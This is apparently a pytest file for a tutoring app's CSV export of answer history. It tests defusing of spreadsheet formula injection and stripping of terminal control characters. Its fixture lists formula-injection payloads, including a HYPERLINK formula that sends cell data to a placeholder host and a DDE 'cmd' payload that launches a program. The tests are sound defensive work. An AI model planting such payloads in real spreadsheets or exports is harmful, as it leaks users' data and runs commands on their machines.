"""The history exported for other programs: as lines, and as cells that no spreadsheet runs."""

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tutor.bank import Verdict
from tutor.paths import Paths
from tutor.progress.archive.import_export import COLUMNS, disarm, history_lines, to_csv
from tutor.progress.errors import HistoryUnreadable, ProfileTooNew
from tutor.progress.read_only import read_history, read_state

from .builders import fill, make_attempt, opened, profile

DANGEROUS = tuple("=+-@＝＋－＠")
ANSWERS = [
    '=HYPERLINK("http://x.invalid/?"&A1)',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1",
    "'=1",
    "- Anfrage\n- Schlüssel; =1",
    "Внимание, «ключ», 注意力",
    "",
]
tricky = st.text(alphabet="=+-@＝＋－＠'\t\r\n; \"aä,|", max_size=14)


def rearm(cell: str) -> str:
    """The text that was disarmed to `cell`."""
    beginning = r"((?:\A|[;\t\r\n])[;\t\r\n \"]*)"
    return re.sub(beginning + "'", r"\1", re.sub(r"\A'(?=[\t\r\n])", "", cell))


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@given(st.one_of(tricky, st.text()))
@example("\r=")
@example("'\t=")
def test_a_disarmed_cell_runs_nowhere_and_comes_back(text: str) -> None:
    cell = disarm(text)
    assert rearm(cell) == text
    assert not cell.startswith((*DANGEROUS, "\t", "\r", "\n"))
    for piece in re.split(r"[;\t\r\n]", cell):
        assert not piece.lstrip(' "').startswith(DANGEROUS)


@pytest.mark.parametrize("text", ["a = b", "x-y", "3 + 4", "mail@home", "it's", "a, -b", "12"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert disarm(text) == text


def test_a_row_for_each_attempt(home: Path) -> None:
    with opened(profile(home)) as progress:
        for number, answer in enumerate(ANSWERS, start=1):
            progress.record(make_attempt(number, number, answer=answer))
        progress.overrule("a1", {"how": Verdict.PARTIAL})
    data = to_csv(read_history(profile(home).history))
    first, *_ = exported = rows(data)
    assert tuple(first) == tuple(COLUMNS)
    assert [rearm(row["answer"]) for row in exported] == ANSWERS
    assert (first["id"], first["answer"]) == ("a1", "'" + ANSWERS[0])
    assert first["verdicts"] == "what=met why=partial how=missed>partial"
    assert (first["time"], first["deck"], first["question"]) == (
        "2026-01-02T03:05:05Z",
        "deck",
        "deck.1",
    )
    assert (first["marks"], first["full"], first["score"]) == ("2.75", "3.5", "0.7857")
    assert (first["grader"], first["language"], first["seconds"]) == ("terms", "ru", "12.5")
    assert (first["hints"], first["gave_up"]) == ("0", "no")
    assert data.count(b"\r\n") >= len(ANSWERS)


def test_the_mark_of_utf_8_is_there_when_it_is_wanted(home: Path) -> None:
    fill(profile(home), 1)
    plain, marked = (to_csv(read_history(profile(home).history), bom=bom) for bom in (False, True))
    assert marked == b"\xef\xbb\xbf" + plain


def test_control_characters_reach_no_terminal() -> None:
    (row,) = rows(to_csv([make_attempt(1, answer="a\x1b[2Jb\x00\x9bc\td")]))
    assert row["answer"] == "a\ufffd[2Jb\ufffd\ufffdc\td"


def test_lines_come_as_they_are_except_an_unfinished_one(paths: Paths) -> None:
    assert history_lines(paths.history) == (b"", ())
    fill(paths, 1, 2)
    whole = paths.history.read_bytes()
    first = whole.splitlines(keepends=True)[0]
    for data, exported in (
        (whole, (whole, ())),
        (whole + b"?\n\n" + whole, (whole + b"?\n\n" + whole, (3, 4))),
        (whole[:-1], (whole, ())),
        (whole[:-2], (first, ())),
    ):
        paths.history.write_bytes(data)
        assert history_lines(paths.history) == exported


def test_the_history_is_read_while_a_tutor_has_the_profile_open(paths: Paths) -> None:
    assert list(read_history(paths.history)) == []
    assert not paths.home.exists()
    with opened(paths) as progress:
        progress.record(make_attempt(1))
        progress.overrule("a1", {"what": Verdict.MISSED})
        with paths.history.open("ab") as file:
            file.write(b'{"v":1,"type":"att')
        before = paths.history.read_bytes()
        assert list(read_history(paths.history)) == list(progress.attempts())
        assert paths.history.read_bytes() == before, "a torn line is left alone"


def test_the_file_that_cannot_be_read_is_named(paths: Paths) -> None:
    fill(paths, 1)
    paths.state.unlink()
    paths.state.mkdir()
    with pytest.raises(HistoryUnreadable, match=r"progress\.json cannot be read"):
        read_state(paths)


@pytest.mark.parametrize("read", [lambda path: list(read_history(path)), history_lines])
def test_a_history_that_cannot_be_read_is_reported(
    paths: Paths, read: Callable[[Path], object]
) -> None:
    paths.history.mkdir(parents=True)
    with pytest.raises(HistoryUnreadable, match=r"attempts\.jsonl cannot be read"):
        read(paths.history)
    paths.history.rmdir()
    paths.history.write_bytes(b'{"v":99,"type":"dream"}\n')
    with pytest.raises(ProfileTooNew):
        read(paths.history)
